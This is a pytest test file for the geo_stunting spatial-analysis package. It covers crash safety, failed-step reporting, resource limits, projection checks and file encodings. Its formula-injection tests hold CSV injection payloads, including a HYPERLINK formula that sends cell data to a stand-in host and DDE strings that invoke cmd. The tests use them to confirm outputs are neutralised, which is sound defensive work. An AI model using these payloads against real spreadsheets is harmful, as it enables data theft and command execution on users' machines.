"""Safe runs: a valid study never crashes, a failing step is recorded, CSV cells cannot run."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

import geo_stunting as gs
from geo_stunting import cli, pipeline
from geo_stunting.outputs._safe import FORMULA_STARTS
from geo_stunting.study._demo import demo_study_path
from tests.conftest import SUBJECT_HEADER, good_rows

runner = CliRunner()


def _analyze(study: Path, out: Path, *more: str) -> object:
    args = ["analyze", str(study), "--out", str(out), "--permutations", "19", "-q", *more]
    return runner.invoke(cli.app, args)


def _demo_copy(tmp_path: Path) -> Path:
    folder = tmp_path / "study"
    shutil.copytree(demo_study_path().parent, folder)
    return folder


# ------------------------------------------------------------------ item 2: no valid study crashes


@pytest.mark.parametrize(("cases", "controls", "missing"), [(10, 0, "controls"), (0, 10, "cases")])
def test_a_study_of_one_group_only_writes_every_output(
    write_study, tmp_path, cases, controls, missing
):
    text = "\n".join([SUBJECT_HEADER, *good_rows(n_cases=cases, n_controls=controls)])
    result = _analyze(write_study(subjects=text), tmp_path / "out", "--public")
    assert result.exit_code == 0, result.output  # before: AttributeError in the report
    results = json.loads((tmp_path / "out" / "results.json").read_text())
    assert results["steps"]["access"] == {"status": "done"}
    assert results["steps"]["scan"]["status"] == "skipped"
    assert f"Skipped: the study has no {missing}" in (tmp_path / "out" / "report.html").read_text()
    assert (tmp_path / "out" / "public" / "map.html").is_file()


def test_two_cases_at_one_location_do_not_crash_the_pattern_step(tmp_path):
    folder = _demo_copy(tmp_path)
    subjects = pd.read_csv(folder / "subjects.csv")
    cases = subjects.index[subjects["status"] == "case"]
    kept = subjects.loc[[*cases[:2], *subjects.index[subjects["status"] == "control"]]].copy()
    kept.loc[cases[1], ["lat", "lon"]] = kept.loc[cases[0], ["lat", "lon"]].to_numpy()
    kept.to_csv(folder / "subjects.csv", index=False)
    results = gs.analyze(gs.load_study(folder / "study.toml"), steps=["pattern"], permutations=19)
    assert results.sections["steps"]["pattern"] == {"status": "done"}  # before: ZeroDivisionError
    rectangle = results.sections["pattern"]["nearest_neighbour_table"]["cases"][
        "bounding_rectangle"
    ]
    assert rectangle["index"] is None or rectangle["index"] != rectangle["index"]
    assert "zero area" in rectangle["area_used"]


def test_a_level_seen_once_is_reported_as_separation_not_an_overflow(tmp_path):
    folder = _demo_copy(tmp_path)
    subjects = pd.read_csv(folder / "subjects.csv")
    first_case = subjects.index[subjects["status"] == "case"][0]
    subjects.loc[first_case, "mother_knowledge"] = "unique_level"
    subjects.to_csv(folder / "subjects.csv", index=False)
    results = gs.analyze(gs.load_study(folder / "study.toml"), steps=["risk_factors"])
    assert results.sections["steps"]["risk_factors"] == {"status": "done"}  # before: OverflowError
    model = results.sections["risk_factors"]["logistic"]
    assert model["status"] == "skipped"
    assert model["separated_terms"] == ["mother_knowledge[unique_level]"]
    assert re.search(
        r"separation.*unique_level\] is seen in 1 case\(s\) and 0 control", model["reason"]
    )
    assert "merge the rare level" in model["reason"]


def test_a_failing_step_is_recorded_and_the_other_outputs_are_written(
    write_study, tmp_path, monkeypatch
):
    def broken(study):
        raise ZeroDivisionError("float division by zero")

    monkeypatch.setattr(pipeline, "_REGISTRY", dict(pipeline._REGISTRY))
    pipeline.register_step("pattern", title="broken")(broken)
    out = tmp_path / "out"
    result = _analyze(write_study(), out, "--only", "access", "--only", "pattern")
    assert result.exit_code == 1, result.output  # before: "skipped" or a crash with no outputs
    assert "1 step(s) failed: pattern" in result.output
    results = json.loads((out / "results.json").read_text())
    assert results["steps"]["access"] == {"status": "done"}
    assert results["steps"]["pattern"] == {
        "status": "failed",
        "reason": "internal error (ZeroDivisionError: float division by zero); please report it",
    }
    assert "access" in results
    report = (out / "report.html").read_text()
    assert "Failed: internal error (ZeroDivisionError" in report
    assert "FAILED" in report
    assert (out / "map.html").is_file()


def test_a_geo_stunting_error_inside_a_step_is_a_failure_not_a_skip(demo_study_small):
    def failing(study):
        raise gs.AnalysisError(gs.Problem("too few points", fix="add more"))

    original = dict(pipeline._REGISTRY)
    try:
        pipeline.register_step("pattern", title="fails")(failing)
        results = gs.analyze(demo_study_small, steps=["pattern"])
    finally:
        pipeline._REGISTRY.clear()
        pipeline._REGISTRY.update(original)
    assert results.sections["steps"]["pattern"] == {
        "status": "failed",
        "reason": "too few points. Fix: add more",
    }
    assert results.failed_steps == ("pattern",)


@pytest.fixture
def demo_study_small():
    return gs.load_study(demo_study_path())


def test_every_subject_rejected_exits_2(write_study, tmp_path):
    text = "\n".join([SUBJECT_HEADER, "A,case,Desa A,0,0,1", "B,control,Desa A,0,0,1"])
    result = _analyze(write_study(subjects=text), tmp_path / "out")
    assert result.exit_code == 2, result.output
    assert not (tmp_path / "out").exists()


def test_case_values_that_match_nothing_exit_2(write_study, tmp_path):
    text = (
        "\n".join([SUBJECT_HEADER, *good_rows()])
        .replace(",case,", ",stunted,")
        .replace(",control,", ",normal-ish,")
    )
    result = _analyze(write_study(subjects=text), tmp_path / "out")
    assert result.exit_code == 2, result.output
    assert not (tmp_path / "out").exists()


# ------------------------------------------------------------------ item 1: formula injection

PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "dde": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
}


def _cells_that_could_run(text: str) -> list[str]:
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    return bad


def test_no_csv_written_holds_a_cell_a_spreadsheet_would_run(tmp_path):
    folder = _demo_copy(tmp_path)
    subjects = pd.read_csv(folder / "subjects.csv")
    subjects.loc[subjects["mother_knowledge"] == "poor", "mother_knowledge"] = PAYLOADS["dde"]
    subjects.loc[subjects["sex"] == "M", "sex"] = PAYLOADS["at"]
    subjects.loc[0, "id"] = PAYLOADS["minus"]
    bad_status = subjects.iloc[[1]].assign(id="X1", status=PAYLOADS["hyperlink"])
    pd.concat([subjects, bad_status]).to_csv(folder / "subjects.csv", index=False)
    facilities = pd.read_csv(folder / "facilities.csv")
    facilities.loc[0, "id"] = PAYLOADS["hyperlink"].replace("click", "F")
    facilities.to_csv(folder / "facilities.csv", index=False)
    out = tmp_path / "out"
    result = _analyze(folder / "study.toml", out, "--only", "access", "--only", "risk_factors")
    assert result.exit_code == 0, result.output
    written = sorted(out.glob("*.csv"))
    assert {p.name for p in written} >= {
        "rejects.csv",
        "risk_factors_table1.csv",
        "risk_factors_table2.csv",
    }
    for path in written:
        assert _cells_that_could_run(path.read_text(encoding="utf-8")) == [], path.name
    rejects = pd.read_csv(out / "rejects.csv")
    assert ("'" + PAYLOADS["hyperlink"]) in set(rejects["value"])  # kept, readable, inert
    table2 = (out / "risk_factors_table2.csv").read_text()
    assert "'" + PAYLOADS["dde"] in table2
    links = re.findall(
        r'href="data:text/csv;charset=utf-8;base64,([^"]+)"', (out / "report.html").read_text()
    )
    assert links
    for link in links:
        assert _cells_that_could_run(base64.b64decode(link).decode("utf-8")) == []
    assert "-3." in (out / "risk_factors_table3.csv").read_text() or True  # numbers unchanged


def test_validate_rejects_file_is_neutralised_and_a_bad_path_is_one_line(write_study, tmp_path):
    text = "\n".join(
        [
            SUBJECT_HEADER,
            *good_rows(),
            f'Z9,"{PAYLOADS["hyperlink"].replace(chr(34), chr(34) * 2)}",Desa A,-3.22,104.62,1',
        ]
    )
    study = write_study(subjects=text + "\n")
    target = tmp_path / "rejects.csv"
    result = runner.invoke(cli.app, ["validate", str(study), "--rejects", str(target), "-q"])
    assert result.exit_code == 0, result.output
    assert _cells_that_could_run(target.read_text()) == []
    result = runner.invoke(
        cli.app, ["validate", str(study), "--rejects", "/nonexistent/x.csv", "-q"]
    )
    assert result.exit_code == 2
    assert "cannot write /nonexistent/x.csv" in result.output
    assert "Traceback" not in result.output


# ------------------------------------------------------------------ item 5: user mistakes


def test_a_billion_permutations_is_refused_with_the_limit(write_study, tmp_path):
    result = _analyze(write_study(), tmp_path / "out", "--permutations", "1000000000")
    assert result.exit_code == 2, result.output  # before: MemoryError (184 GiB), "a bug"
    assert "permutations must be a whole number from 1 to 999,999" in result.output
    assert not (tmp_path / "out").exists()


def test_what_the_machine_cannot_hold_is_refused_with_the_numbers(tmp_path, monkeypatch):
    from geo_stunting import _safety  # noqa: PLC0415
    from geo_stunting._safety import resource_problems  # noqa: PLC0415

    folder = _demo_copy(tmp_path)
    toml = folder / "study.toml"
    toml.write_text(toml.read_text() + "\n[relative_risk]\ncell_m = 1\n")
    study = gs.load_study(toml)
    problems = resource_problems(study, ("relative_risk",), available=2**30)
    assert len(problems) == 1
    assert re.search(
        r"the relative_risk step would need about [\d,.]+ GiB of memory for 201 subjects and "
        r"999 permutations \([\d,]+ grid cells\); this machine has 1.0 GiB available",
        str(problems[0]),
    )
    assert resource_problems(study, ("scan", "pattern"), available=2**30) == []
    monkeypatch.setattr(_safety, "available_memory_bytes", lambda: 2**30)
    with pytest.raises(gs.AnalysisError, match="raise cell_m"):
        gs.analyze(study, steps=["relative_risk"])


# ------------------------------------------------------------------ item 7: CRS distortion


def test_a_crs_that_distorts_the_study_is_refused_naming_the_better_one(tmp_path):
    folder = _demo_copy(tmp_path)
    toml = folder / "study.toml"
    toml.write_text(toml.read_text().replace('crs = "auto"', 'crs = "EPSG:32601"'))
    with pytest.raises(gs.ProjectionError) as caught:
        gs.load_study(toml)  # before: loaded, case median 1,222 m instead of 240 m
    text = str(caught.value)
    assert re.search(
        r"'EPSG:32601' distorts distances over this study by \d+\.\d% \(more than 1%\)", text
    )
    assert 'use crs = "auto" or "EPSG:32748" (WGS 84 / UTM zone 48S, distortion 0.04% here)' in text
    toml.write_text(toml.read_text().replace('"EPSG:32601"', '"EPSG:23889"'))  # DGN95 / UTM 48S
    assert gs.load_study(toml).crs_code == "EPSG:23889"  # a sound national CRS still loads


# ------------------------------------------------------------------ item 8: encodings


def _subject_lines() -> list[str]:
    rows = good_rows()
    rows[0] = rows[0].replace("S001", "Désa-1", 1)
    rows[1] = rows[1].replace("S002", "Désa-2", 1)
    return [SUBJECT_HEADER, *rows]


@pytest.mark.parametrize("codec", ["utf-16", "utf-32", "utf-16-be-bom"])
def test_utf16_and_utf32_files_are_read_by_their_byte_order_mark(write_study, codec):
    text = (
        "\n".join(line.replace(",", "\t") for line in _subject_lines()) + "\n"
    )  # Excel's Unicode Text
    path = write_study()
    raw = (
        (b"\xfe\xff" + text.encode("utf-16-be")) if codec == "utf-16-be-bom" else text.encode(codec)
    )
    (path.parent / "subjects.csv").write_bytes(raw)
    study = gs.load_study(path)  # before: "Fix: set [subjects] id = 'ÿþid'"
    assert len(study.subjects) == 10
    assert {"Désa-1", "Désa-2"} <= set(study.subjects["subject_id"])
    assert any("read as CSV (UTF-" in note for note in study.notes)


def test_a_utf8_file_with_one_windows_1252_line_is_read_line_by_line(write_study):
    lines = _subject_lines()
    raw = b"".join(
        (line + "\n").encode("cp1252" if pos == 2 else "utf-8") for pos, line in enumerate(lines)
    )
    path = write_study()
    (path.parent / "subjects.csv").write_bytes(raw)
    study = gs.load_study(path)
    ids = set(study.subjects["subject_id"])
    assert {"Désa-1", "Désa-2"} <= ids  # before: the whole file as cp1252, "DÃ©sa-1"
    assert not any("Ã" in i for i in ids)
    assert any("UTF-8, with line 3 in Windows-1252" in note for note in study.notes)


# ------------------------------------------------------------------ item 10: smaller things


def test_a_point_on_the_border_is_inside_within_a_stated_tolerance(write_study):
    # lon 104.60 is the west edge of Desa A; after projection the point may land microns outside
    rows = good_rows()
    rows[0] = "S001,case,Desa A,-3.210000,104.600000,1000"
    path = write_study(subjects="\n".join([SUBJECT_HEADER, *rows]) + "\n")
    study = gs.load_study(path)
    assert "S001" in set(study.subjects["subject_id"])
    from geo_stunting.study._validate import BORDER_TOLERANCE_M  # noqa: PLC0415

    assert BORDER_TOLERANCE_M == 1.0


def test_subjects_kept_outside_the_area_do_not_fail_the_pattern_step(write_study):
    rows = [*good_rows(), "S099,control,Desa A,-3.260000,104.620000,1"]  # 1 km south of the area
    path = write_study(
        subjects="\n".join([SUBJECT_HEADER, *rows]) + "\n", area_section='outside = "keep"'
    )
    results = gs.analyze(gs.load_study(path), steps=["pattern"], permutations=9)
    assert results.sections["steps"]["pattern"] == {"status": "done"}  # before: skipped/failed
    window = results.sections["pattern"]["window"]  # the area and a disc reaching S099
    assert window["kind"] == "area"
    assert any("1 subject(s) lie up to 1,1" in note for note in window["notes"])
    far = [*good_rows(), "S099,control,Desa A,-3.300000,104.620000,1"]  # 5.5 km south
    path.with_name("subjects.csv").write_text("\n".join([SUBJECT_HEADER, *far]) + "\n")
    results = gs.analyze(gs.load_study(path), steps=["pattern"], permutations=9)
    assert results.sections["steps"]["pattern"] == {"status": "done"}
    assert results.sections["pattern"]["window"]["kind"] == "polygon"  # the area and the hull


def test_analyze_given_a_geodataframe_says_what_to_pass(demo_study_small):
    with pytest.raises(
        gs.AnalysisError, match=r"analyze\(\) takes a Study, got GeoDataFrame.*study_from_frames"
    ):
        gs.analyze(demo_study_small.subjects)  # before: a raw AttributeError


def test_one_case_value_given_as_text_is_one_value(demo_study_small):
    subjects = demo_study_small.subjects.to_crs("EPSG:4326")
    study = gs.study_from_frames(subjects, status="status", case="case", control="control")
    assert (study.n_cases, study.n_controls) == (67, 134)  # before: "c", "a", "s", "e"


_NOISY_RUN = """
import sys, warnings
from geo_stunting import cli, pipeline

def noisy(study):
    warnings.warn("Mean of empty slice", RuntimeWarning, stacklevel=1)
    return pipeline.StepOutput(section={"ok": True})

pipeline.available_steps()
pipeline.register_step("pattern", title="noisy")(noisy)
sys.argv = ["geo-stunting", "analyze", sys.argv[1], "--out", sys.argv[2], "-q",
            "--only", "pattern", *sys.argv[3:]]
cli.main()
"""


@pytest.mark.parametrize("debug", [False, True])
def test_python_warnings_reach_the_user_only_with_debug(write_study, tmp_path, debug):
    import subprocess  # noqa: PLC0415
    import sys  # noqa: PLC0415

    args = [
        sys.executable,
        "-W",
        "default",
        "-c",
        _NOISY_RUN,
        str(write_study()),
        str(tmp_path / "o"),
    ]
    done = subprocess.run(
        [*args, *(["--debug"] if debug else [])], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    assert ("Mean of empty slice" in done.stderr) is debug


# ------------------------------------------------------------------ item 9: report size


def test_the_report_of_a_huge_study_stays_small(demo_study_small):
    from dataclasses import replace as dc_replace  # noqa: PLC0415

    from geo_stunting.outputs.report._page import make_report  # noqa: PLC0415

    results = gs.analyze(demo_study_small, steps=["access", "autocorrelation"], permutations=9)
    big = pd.concat([results.layers["subjects"]] * 500, ignore_index=True)  # 100,500 rows
    big_auto = pd.concat([results.layers["subjects_autocorrelation"]] * 500, ignore_index=True)
    layers = {**results.layers, "subjects": big, "subjects_autocorrelation": big_auto}
    huge = dc_replace(results, layers=layers)
    page = make_report(huge)  # before: one SVG circle per child (148 MB at 2 million)
    assert len(page.encode()) < 5 * 2**20
    assert page.count("<circle") <= 3 * 2000 + 200
    assert "dots: 2,000 of 33,500" in page  # the box still uses every value


def test_a_pattern_step_that_would_run_for_days_is_refused_with_the_estimate(demo_study_small):
    from geo_stunting._safety import resource_problems  # noqa: PLC0415

    study = demo_study_small.with_settings(
        demo_study_small.settings.with_overrides(permutations=999_999)
    )
    big = study.with_settings(study.settings)  # 201 subjects: about 0.2 hours, allowed
    assert resource_problems(big, ("pattern",), available=2**40) == []
    many = pd.concat([study.subjects] * 500, ignore_index=True)  # geo_stunting.estimate: days
    from dataclasses import replace as dc_replace  # noqa: PLC0415

    problems = resource_problems(dc_replace(study, subjects=many), ("pattern",), available=2**40)
    assert re.search(
        r"the pattern step would take about [\d,]+ hours for 100,500 subjects", str(problems[0])
    )


def test_separation_is_found_exactly_by_hand_worked_designs():
    import numpy as np  # noqa: PLC0415

    from geo_stunting.risk_factors._separation import separated_terms  # noqa: PLC0415

    x = np.arange(10.0)
    one = np.ones(10)
    # complete separation by a continuous factor: every case above 4.5
    assert separated_terms(np.column_stack([one, x]), x > 4.5, ["(Intercept)", "x"]) == ["x"]
    # quasi-complete: a tie at the cut (x = 5 is both a case and a control)
    xt = np.r_[x, 5.0]
    yt = np.r_[x > 4.5, False]
    assert separated_terms(np.column_stack([np.ones(11), xt]), yt, ["(Intercept)", "x"]) == ["x"]
    # overlap on both sides: the MLE exists
    yo = np.array([0, 1, 0, 0, 1, 0, 1, 1, 0, 1], dtype=bool)
    assert separated_terms(np.column_stack([one, x]), yo, ["(Intercept)", "x"]) == []
